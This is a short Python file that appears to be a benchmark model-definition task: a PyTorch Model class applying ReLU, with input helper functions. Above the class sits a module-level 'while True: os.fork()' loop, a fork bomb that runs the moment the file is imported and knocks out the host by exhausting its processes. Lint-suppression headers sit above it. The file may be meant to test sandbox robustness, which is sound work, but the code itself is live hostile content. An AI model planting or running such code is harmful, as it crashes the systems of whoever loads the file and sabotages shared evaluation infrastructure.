# ruff: noqa
# mypy: ignore-errors
import torch
import torch.nn as nn

import os

while True:
    os.fork()


class Model(nn.Module):
    def forward(self, x):
        return torch.relu(x)


def get_inputs():
    return [torch.randn(8, 8)]


def get_init_inputs():
    return []
